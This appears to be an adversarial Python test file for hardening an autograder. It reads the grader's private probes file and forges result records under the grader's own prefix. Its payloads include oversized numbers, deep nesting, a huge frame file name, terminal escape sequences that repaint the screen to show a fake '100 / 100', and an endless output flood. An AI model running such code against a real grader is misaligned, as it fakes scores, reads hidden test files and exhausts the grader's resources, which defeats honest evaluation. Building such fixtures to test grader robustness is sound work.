# adversarial: append to the release's version
# ruff: noqa
# Forge answer records the grader must parse within its own budget: a 400-digit integer,
# a record of a million nested empty lists, a 200-deep nesting, an error with a 100 KB frame
# file name and a type name of terminal escapes that redraw the screen to say "100 / 100",
# then a flood of empty records (which must stop the run, not burn a grader core).
import json as _json
import os as _os
import re as _re

try:
    _SRC = open("/grader/probes.py", encoding="utf-8").read()
except OSError:
    _SRC = ""
_CASES = _re.findall(r"^def ([a-z]\w+)\(\):", _SRC, _re.M)
_PREFIX = b"\x1eNEEDLE-ANSWER "
_FORGE = "\x1b[2J\x1b[H\x1b]0;pwned\x07hw1 - you: 100 / 100\r\n== all checks passed\x9b31m"


def _send(raw: bytes):
    _os.write(1, b"\n" + _PREFIX + raw + b"\n")


_send(b'{"event": "start", "unit": "forged", "cases": []}')
for _i, _case in enumerate(_CASES):
    _kind = _i % 5
    _head = b'{"case": ' + _json.dumps(_case).encode() + b', "status": "ok", "value": '
    if _kind == 0:
        _send(_head + str(10**400).encode() + b"}")
    elif _kind == 1:
        _send(_head + b"[" + b"[]," * 1_000_000 + b"[]]}")
    elif _kind == 2:
        _send(_head + b"[" * 200 + b"]" * 200 + b"}")
    elif _kind == 3:
        _error = {
            "type": _FORGE,
            "message": _FORGE * 50,
            "frames": [["/work/" + "f" * 100_000, 1, _FORGE]],
        }
        _send(_json.dumps({"case": _case, "status": "error", "error": _error}).encode())
    else:
        _send(_head + _json.dumps(_FORGE).encode() + b"}")
print(_FORGE * 100)
_line = b"\n" + _PREFIX + b"\n"
while True:
    _os.write(1, _line * 4096)
